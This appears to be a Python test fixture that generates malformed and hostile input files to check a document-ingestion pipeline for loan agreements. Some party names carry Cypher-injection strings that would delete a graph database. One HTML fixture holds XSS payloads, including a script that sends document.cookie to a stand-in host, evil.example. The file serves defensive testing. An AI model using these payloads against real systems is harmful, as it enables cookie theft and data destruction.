"""The bad-input corpus, generated at test time (nothing large is kept in the repository).

Each :class:`BadFile` says what it is and what ingestion must do with it:
``fails`` (a one-line per-file error, the rest of the batch still ingested) or ``ingests``
(a document is written, with evidence that slices its own text). ``None`` means either is
acceptable as long as the outcome is clean (e.g. a document with nothing in it to extract may
be refused as empty of facts, or stored as a bare Document).
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from pathlib import Path

#: A party name that would break out of a string literal and delete the graph if anything
#: ever spliced it into Cypher text.
EVIL_PARTY = 'Evil"}) DETACH DELETE n //, Inc.'
#: A defined term that closes a string, a map and a pattern (kept verbatim in evidence).
EVIL_TERM = 'Evil"}) DETACH DELETE n //'
#: Quotes, backslashes and Cypher inside one more name.
EVIL_PARTY_2 = "O'Brien \\\\ `Tick` MATCH (m) SET m.key = 'x' Holdings, LLC"

PREAMBLE = """\
                                                               Exhibit 10.1

                          LOAN AGREEMENT

     This LOAN AGREEMENT (this "Agreement") is made and entered into as of March 3,
2004, by and among {borrower}, a Delaware corporation (the "Borrower"), and {lender},
a national banking association (the "Bank").

     1. Loan. The Bank agrees to lend to the Borrower the principal amount of
$1,000,000 on the terms set forth herein.

     2. Governing Law. This Agreement shall be governed by the laws of the State of
Missouri.
"""


@dataclass(frozen=True)
class BadFile:
    name: str
    what: str
    fails: bool | None  # True: must be refused; False: must be ingested; None: either, cleanly


def agreement(borrower: str = "Acme Widgets, Inc.", lender: str = "First Bank of Ohio") -> str:
    return PREAMBLE.format(borrower=borrower, lender=lender)


def write_corpus(folder: Path, *, big_bytes: int = 2 * 1024 * 1024) -> list[BadFile]:
    """Write every bad file into ``folder``; ``big_bytes`` sizes the over-the-limit text."""
    folder.mkdir(parents=True, exist_ok=True)
    rnd = random.Random(20240611)
    files: list[BadFile] = []

    def put(name: str, data: bytes | str, what: str, fails: bool | None) -> None:
        raw = data.encode("utf-8") if isinstance(data, str) else data
        (folder / name).write_bytes(raw)
        files.append(BadFile(name, what, fails))

    put("empty.txt", b"", "empty file", True)
    put("blank.txt", b"   \n\n\t  \n", "whitespace only", True)
    put("binary.txt", bytes(rnd.randrange(256) for _ in range(64 * 1024)), "random bytes", True)
    put("binary.htm", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 64, "a PNG named .htm", True)
    put(
        "truncated_utf8.txt",
        agreement("Caf\u00e9 Soci\u00e9t\u00e9 \u2014 Holdings, Inc.").encode("utf-8")[:-1]
        + "\u00e9".encode()[:1],
        "UTF-8 cut inside a multi-byte character",
        None,
    )
    put("big_text.txt", _big_text(big_bytes, rnd), f"{big_bytes} bytes of text", True)
    put("table_100k.txt", table_text(100_000), "a 100,000-line table", None)
    put("nested.html", _nested_html(20_000), "HTML nested 20,000 levels deep", None)
    put("scripts.html", _scripted_html(), "HTML with scripts and event handlers", False)
    put("missing_text_end.txt", _submission_without_text_end(), "<DOCUMENT> without </TEXT>", False)
    put("evil_names.txt", _evil_text(), "Cypher inside party names", False)
    put("many_terms.txt", _many_terms(10_000), "a document defining 10,000 terms", None)
    put("report.pdf", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", "an unsupported extension", True)
    return files


def big_text(path: Path, size: int) -> None:
    """Write ``size`` bytes of agreement-like prose to ``path`` (streamed, bounded memory)."""
    rnd = random.Random(7)
    with path.open("w", encoding="utf-8") as fh:
        fh.write(agreement())
        written = len(agreement())
        while written < size:
            chunk = _prose(rnd, 2000)
            fh.write(chunk)
            written += len(chunk)


def _big_text(size: int, rnd: random.Random) -> str:
    return (agreement() + _prose(rnd, size))[:size]


_SENTENCE = (
    "the Borrower shall pay to the Bank on demand all amounts due under this Agreement "
    "together with interest thereon at the Default Rate and any Event of Default hereunder "
    "shall entitle the Lenders to accelerate the Obligations secured by the Collateral"
)
_WORDS = _SENTENCE.split()


def _prose(rnd: random.Random, size: int) -> str:
    out: list[str] = []
    n = 0
    while n < size:
        sentence = " ".join(rnd.choice(_WORDS) for _ in range(rnd.randint(8, 30)))
        line = sentence[0].upper() + sentence[1:] + ".\n"
        out.append(line)
        n += len(line)
    return "".join(out)


def table_text(lines: int) -> str:
    """An agreement followed by a schedule of ``lines`` rows (slow to extract, on purpose)."""
    head = agreement() + "\n                         SCHEDULE A - HOLDERS\n\n"
    rows = (
        f"Holder {i:<8d} | {i * 37 % 100000:>10,d} shares | ${i * 13 % 977:>6d}.00\n"
        for i in range(lines)
    )
    return head + "".join(rows)


def _nested_html(depth: int) -> str:
    return (
        "<html><body>"
        + "<div>" * depth
        + "<p>"
        + agreement()
        + "</p>"
        + "</div>" * depth
        + "</body></html>"
    )


def _scripted_html() -> str:
    return (
        "<html><head><script>fetch('http://evil.example/'+document.cookie)</script>"
        "<style>body{background:url(javascript:alert(1))}</style></head>"
        '<body onload="alert(1)"><img src=x onerror="alert(2)">'
        "<p>"
        + agreement("Script &lt;b&gt;Kiddie&lt;/b&gt; Corp.").replace("\n\n", "</p><p>")
        + '</p><a href="javascript:alert(3)">click</a>'
        "<script>document.write('<p>INJECTED PARTY, Inc.</p>')</script>"
        "<noscript>NOSCRIPT TEXT</noscript></body></html>"
    )


def _submission_without_text_end() -> str:
    return (
        "<SEC-DOCUMENT>0000000000-24-000009.txt : 20240105\n"
        "<SEC-HEADER>0000000000-24-000009.hdr.sgml : 20240105\n"
        "ACCESSION NUMBER:\t\t0000000000-24-000009\n</SEC-HEADER>\n"
        "<DOCUMENT>\n<TYPE>EX-10.1\n<SEQUENCE>2\n<FILENAME>ex10-1.txt\n"
        "<DESCRIPTION>LOAN AGREEMENT\n<TEXT>\n" + agreement("Truncated Filings, Inc.")
    )


def _evil_text() -> str:
    """Hostile names in the preamble; the defined term's quote ends up inside evidence."""
    term = f"(\u201c{EVIL_TERM}\u201d)"
    return (
        agreement("Acme Widgets, Inc.", EVIL_PARTY_2).replace('(the "Borrower")', term)
        + f"\n     3. Notices. Notices to {EVIL_PARTY} shall be in writing.\n"
    )


def _many_terms(n: int) -> str:
    terms = "".join(
        f'     "Defined Term {i}" means the amount set forth on Schedule {i} hereto.\n'
        for i in range(n)
    )
    return agreement() + "\n     SECTION 1. DEFINITIONS.\n\n" + terms
